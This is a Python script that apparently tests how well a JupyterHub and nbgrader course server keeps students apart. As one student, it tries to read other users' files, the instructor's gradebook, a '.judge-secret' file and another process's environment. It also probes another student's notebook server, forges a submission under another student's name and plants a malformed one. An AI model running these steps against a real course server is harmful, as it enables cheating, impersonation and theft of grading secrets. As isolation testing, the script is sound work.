"""What a curious student tries, as their own Unix user, in their own notebook; prints JSON of what came of it.

``%run hub_intruder.py look ADDRESS PID``: reads what is others'; another student's server has this address and number.
``%run hub_intruder.py forge``: hands in under another name, and puts something unreadable among the submissions.
"""

from __future__ import annotations

import getpass
import json
import os
import shutil
import sys
import urllib.error
import urllib.request
from datetime import UTC, datetime

CHAPTER, NOTEBOOK = "01_recurrence", "01_recurrence/recurrence.ipynb"
HUB = "http://127.0.0.1:8000"
EXCHANGE = "/srv/nbgrader/exchange/unrolled"
COURSE = "/home/instructor1/course"
FORBIDDEN = (
    "/home/student1",
    f"/home/student1/{NOTEBOOK}",
    f"{EXCHANGE}/inbound",
    COURSE,
    f"{COURSE}/gradebook.db",
    f"{COURSE}/.judge-secret",
    f"{COURSE}/source/{NOTEBOOK}",
    "/srv/jupyterhub",
    "/srv/jupyterhub/jupyterhub.sqlite",
)
SECONDS = 10
ROOMS = ("api/contents", "api/kernels", "lab", f"files/{NOTEBOOK}")


class Stay(urllib.request.HTTPRedirectHandler):
    """To be led to the log-in page is an answer too."""

    def redirect_request(self, *_):
        return None


def look(address: str, pid: str) -> dict:
    own = {"Authorization": f"token {os.environ['JUPYTERHUB_API_TOKEN']}"}
    others = [f"{door}/user/student1/{room}" for door in (HUB, address) for room in ROOMS]
    return {
        "who": getpass.getuser(),
        "read": {path: attempt(read, path) for path in (*FORBIDDEN, f"/proc/{pid}/environ")},
        "feedback": attempt(read, f"{EXCHANGE}/feedback"),
        "moved": attempt(os.rename, EXCHANGE, f"{EXCHANGE}-old"),
        "asked": [ask(room, headers) for room in others for headers in ({}, own)],
        "own": ask(f"{HUB}/user/{getpass.getuser()}/api/contents", own),
    }


def attempt(action, *arguments) -> str:
    try:
        return repr(action(*arguments))[:80]
    except OSError as error:
        return type(error).__name__


def read(path: str):
    if os.path.isdir(path):
        return os.listdir(path)
    with open(path, "rb") as file:
        return file.read(1)


def ask(address: str, headers: dict[str, str]) -> int:
    try:
        return (
            urllib.request.build_opener(Stay)
            .open(urllib.request.Request(address, headers=headers), timeout=SECONDS)
            .status
        )
    except urllib.error.HTTPError as error:
        return error.code


def forge() -> None:
    now = datetime.now(UTC).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    forged = f"{EXCHANGE}/inbound/student1+{CHAPTER}+{now}+forged"
    shutil.copytree(os.path.expanduser(f"~/{CHAPTER}"), forged, ignore=shutil.ignore_patterns(".*"))
    with open(f"{forged}/timestamp.txt", "w") as file:
        file.write(now)
    for path in (forged, *(f"{forged}/{name}" for name in os.listdir(forged))):
        os.chmod(path, 0o755)
    os.mkdir(f"{EXCHANGE}/inbound/student2+{CHAPTER}+no time+at all")


if __name__ == "__main__":
    done = look(sys.argv[2], sys.argv[3]) if sys.argv[1] == "look" else forge()
    print(json.dumps(done))
